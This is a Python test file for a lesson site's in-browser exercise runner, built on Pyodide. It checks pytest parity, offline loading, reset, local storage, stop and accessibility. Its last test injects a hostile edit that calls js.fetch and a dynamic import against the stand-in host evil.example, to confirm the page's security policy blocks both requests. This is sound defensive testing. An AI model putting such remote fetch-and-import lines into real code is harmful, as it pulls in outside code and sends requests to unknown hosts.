"""Exercise blocks in Debian's Chromium, on lesson 14 of the built site served from 127.0.0.1: the
editor holds the repository's starting file byte for byte and the reference is the repository's
file; Run loads the pinned Pyodide from the site itself and reports, test by test, what pytest
reports (tests/test_exercise_runner.py proves the runner against pytest): the file as shipped fails
every check, Mini in its place passes every check, one completed function passes exactly its
checks. The page's policy allows only 'wasm-unsafe-eval' beyond 'self', and no request leaves
127.0.0.1.
"""

from __future__ import annotations

import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lessonkit.source import pyodide
from lessonkit.util import markup

sys.path.insert(0, str(Path(__file__).parent))
import test_browser_a11y as a11y  # noqa: E402
import test_exercise_runner as runner_test  # noqa: E402
from test_browser_a11y import axe  # noqa: E402, F401 - the fixture, asked for by name below
from test_exercise_runner import EXERCISES, FIXES, MINI, STAGES, one_function_fixed  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
LESSON = "lessons/14-mini-autograd/"


def test_only_the_pages_with_an_exercise_name_its_block_and_the_runtime_size_is_measured(built_site):
    html = (built_site / LESSON / "index.html").read_text(encoding="utf-8")
    lock = pyodide.read_lock(ROOT)
    size = sum((built_site / pyodide.SITE_DIR / n).stat().st_size for n in lock.files)
    assert size > 10 * 1048576 and html.count(f'data-lk-size="{size / 1048576:.1f}"') == len(STAGES)
    for page in built_site.rglob("*.html"):
        if page.parent != built_site / LESSON:  # elsewhere only runnable blocks (lk-exercise lk-runnable)
            tree = markup.parse(page.read_text(encoding="utf-8"))
            others = [n for n in tree.css(".lk-exercise") if "lk-runnable" not in n.attributes["class"].split()]
            assert others == [], page


class Reader:
    """Lesson 14 under the policy the build wrote (the site itself, Material's inline scripts by hash,
    'wasm-unsafe-eval' and blob: workers, which the exercise blocks ask for), every request counted,
    any other host refused (by routing and by the resolver)."""

    def __init__(self, playwright_browser, url: str, page: str = LESSON):
        self.external, self.local, self.errors = [], [], []
        self.context = playwright_browser.new_context(viewport={"width": 1280, "height": 900})
        host = urlsplit(url).netloc

        def route(r):
            if urlsplit(r.request.url).netloc != host:
                self.external.append(r.request.url)
                return r.abort()
            self.local.append(r.request.url)
            return r.continue_()

        self.context.route("**/*", route)
        self.page = self.context.new_page()
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.goto(url + "/" + page, wait_until="load")
        self.page.wait_for_timeout(150)

    def block(self, stage: int):
        return self.page.locator(f"#exercise-stage_{stage}")

    def run(self, stage: int, text: str | None) -> dict[str, str]:
        b = self.block(stage)
        if text is not None:
            b.locator("textarea").fill(text)
        b.locator('[data-lk-action="run"]').click()
        self.page.wait_for_function(
            "el => el.querySelector('.lk-ex-summary') && !el.dataset.lkBusy",
            arg=b.element_handle(),
            timeout=240000,
        )
        return {
            li.get_attribute("data-test"): li.get_attribute("data-outcome") for li in b.locator("li.lk-ex-test").all()
        }


@pytest.fixture(scope="module")
def reader(browser, server):
    r = Reader(browser, server)
    yield r
    r.context.close()


def test_the_page_holds_the_repository_files_byte_for_byte(reader):
    """As Chromium parsed the page: the editor's starting text, the reference, the tests, the conftest."""
    blocks = reader.page.evaluate(
        """() => [...document.querySelectorAll('.lk-exercise')].map(b => ({
            file: b.dataset.lkFile, csp: b.dataset.lkCsp,
            editor: b.querySelector('textarea').defaultValue,
            files: Object.fromEntries(
                [...b.querySelectorAll('pre.lk-ex-file')].map(p => [p.dataset.lkPath, p.textContent]))
        }))"""
    )
    assert [b["file"] for b in blocks] == [f"mini-autograd/exercises/stage_{n}.py" for n in STAGES]
    for n, b in zip(STAGES, blocks, strict=True):
        assert b["csp"] == "wasm-unsafe-eval"
        assert b["editor"] == (EXERCISES / f"stage_{n}.py").read_text(encoding="utf-8")
        assert b["files"] == {
            f"mini-autograd/exercises/test_stage_{n}.py": (EXERCISES / f"test_stage_{n}.py").read_text(
                encoding="utf-8"
            ),
            "mini-autograd/exercises/conftest.py": (EXERCISES / "conftest.py").read_text(encoding="utf-8"),
            "mini-autograd/mini_autograd.py": MINI.read_text(encoding="utf-8"),
        }


def test_nothing_is_loaded_before_run_and_no_request_leaves_the_site(reader):
    assert not any("/assets/pyodide/" in u for u in reader.local)  # the runtime waits for Run
    assert any(u.endswith("/assets/exercise/exercise.js") for u in reader.local)
    assert reader.external == []


@pytest.fixture(scope="module")
def by_pytest(tmp_path_factory):
    """What real pytest reports (CPython, HIPS autograd absent as in the browser) for each stage file
    as shipped, replaced by Mini, and with one function completed: {variant: {(stage, test): outcome}}."""
    reference = MINI.read_text(encoding="utf-8")
    variants = {
        "shipped": {},
        "reference": {n: reference for n in STAGES},
        "fixed": {n: one_function_fixed(n, FIXES[n][0]) for n in FIXES},
    }
    out = {}
    for name, files in variants.items():
        tmp = tmp_path_factory.mktemp(name)
        root = runner_test._tree(tmp, files)
        out[name] = {k: v[0] for k, v in runner_test.real_pytest(tmp, root, runner_test._env(tmp, hips=False)).items()}
    return out


@pytest.mark.parametrize("stage", STAGES)
def test_each_stage_reports_what_pytest_reports_as_shipped_with_the_reference_and_with_one_fix(
    reader, by_pytest, stage
):
    def expected(variant):
        return {t: o for (s, t), o in by_pytest[variant].items() if s == stage}

    shipped = reader.run(stage, None)
    assert shipped == expected("shipped")
    assert set(shipped.values()) == {"failed", "skipped"}  # every check that runs fails
    assert any(u.endswith("/assets/pyodide/pyodide.asm.wasm") for u in reader.local)
    reference = reader.run(stage, MINI.read_text(encoding="utf-8"))
    assert reference == expected("reference")
    assert set(reference.values()) == {"passed", "skipped"}  # every check that runs passes
    if stage in FIXES:
        name, want = FIXES[stage]
        fixed = reader.run(stage, one_function_fixed(stage, name))
        assert fixed == expected("fixed")
        passed = {t for t, o in fixed.items() if o == "passed"}
        ran = {t for t, o in fixed.items() if o != "skipped"}
        assert passed == (ran if want == "every check that runs" else want)
    assert reader.external == [] and reader.errors == []


def test_axe_finds_nothing_serious_with_the_outcomes_and_the_reference_shown(reader, request):
    source = request.getfixturevalue("axe")
    page = reader.page
    page.evaluate("() => document.querySelectorAll('.lk-exercise details').forEach(d => { d.open = true; })")
    a11y._no_motion(page)  # a constructed stylesheet: the policy refuses an unhashed <style>
    page.evaluate(source)
    light = a11y._axe(page, exclude=[])
    a11y._dark(page)
    dark = a11y._axe(page, a11y.COLOUR_RULES, exclude=[])
    page.evaluate("() => document.body.setAttribute('data-md-color-scheme', 'default')")
    assert light == {} and dark == {}


def test_a_page_without_an_exercise_loads_none_of_it(browser, server):
    other = Reader(browser, server, "lessons/01-ad-and-graph/")
    try:
        assert other.local and not any("/assets/exercise/" in u or "/assets/pyodide/" in u for u in other.local)
        assert other.external == [] and other.errors == []
    finally:
        other.context.close()


def test_reset_brings_back_the_starting_file_and_the_reference_is_offered_after_a_run(reader):
    b = reader.block(1)
    assert b.locator("details.lk-ex-reference").is_visible()  # stage 1 has been run above
    b.locator('[data-lk-action="reset"]').click()
    assert b.locator("textarea").input_value() == (EXERCISES / "stage_1.py").read_text(encoding="utf-8")


def test_tab_indents_in_the_editor_and_esc_then_tab_leaves_it(reader):
    area = reader.block(2).locator("textarea")
    area.focus()
    reader.page.keyboard.press("Control+Home")
    reader.page.keyboard.press("Tab")
    assert area.input_value().startswith("    ")
    assert reader.page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    reader.page.keyboard.press("Escape")
    reader.page.keyboard.press("Tab")
    assert reader.page.evaluate("document.activeElement.tagName") != "TEXTAREA"
    reader.block(2).locator('[data-lk-action="reset"]').click()


def test_the_edit_is_kept_in_local_storage_per_stage(reader):
    b = reader.block(3)
    b.locator("textarea").fill("x = 1\n")
    reader.page.reload(wait_until="load")
    b = reader.block(3)
    reader.page.wait_for_function("document.querySelector('#exercise-stage_3').dataset.lkReady")
    assert b.locator("textarea").input_value() == "x = 1\n"
    assert (
        reader.block(3).locator(".lk-ex-result").text_content()
        == "已恢复你在本浏览器里保存的上次修改；按「重置」回到起点文件。"
    )
    # each stage keeps its own: stage 4 was last run with one function completed
    assert reader.block(4).locator("textarea").input_value() == one_function_fixed(4, FIXES[4][0])
    b.locator('[data-lk-action="reset"]').click()
    reader.page.reload(wait_until="load")
    assert reader.block(3).locator("textarea").input_value() == (EXERCISES / "stage_3.py").read_text(encoding="utf-8")


def test_stop_ends_a_run_that_does_not_end_and_the_next_run_starts_afresh(reader):
    b = reader.block(5)
    b.locator("textarea").fill("while True:\n    pass\n")
    b.locator('[data-lk-action="run"]').click()
    reader.page.wait_for_function(
        "el => el.querySelector('.lk-ex-result').textContent === '正在运行检查…'",
        arg=b.element_handle(),
        timeout=240000,
    )
    assert b.locator('[data-lk-action="stop"]').is_visible() and b.locator('[data-lk-action="run"]').is_disabled()
    b.locator('[data-lk-action="stop"]').click()
    assert b.locator(".lk-ex-result").text_content() == "已停止。"
    assert b.locator('[data-lk-action="run"]').is_enabled() and not b.locator('[data-lk-action="stop"]').is_visible()
    b.locator('[data-lk-action="reset"]').click()
    outcomes = reader.run(5, None)
    assert set(outcomes.values()) == {"failed", "skipped"}
    assert reader.external == [] and reader.errors == []


def test_code_in_the_editor_reaches_no_other_host(browser, server):
    """The checks run the reader's edit (and a contribution's stage file): Python that can call
    JavaScript. Its worker inherits the page's policy, so a fetch or an import of another host is
    refused by the browser before any request leaves (routing here would only count and abort it)."""
    r = Reader(browser, server)
    said: list[str] = []
    r.page.on("worker", lambda w: w.on("console", lambda m: said.append(m.text)))
    try:
        hostile = (
            (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
            + "\nimport js\n"
            + "js.fetch('http://evil.example/fetched')\n"
            + "js.eval(\"import('http://evil.example/imported.js')\")\n"
        )
        r.run(1, hostile)
        r.page.wait_for_timeout(2000)
        assert any("Failed to fetch" in m for m in said), said  # the fetch was made, and refused
        assert r.external == []  # and no request left for another host
    finally:
        r.context.close()
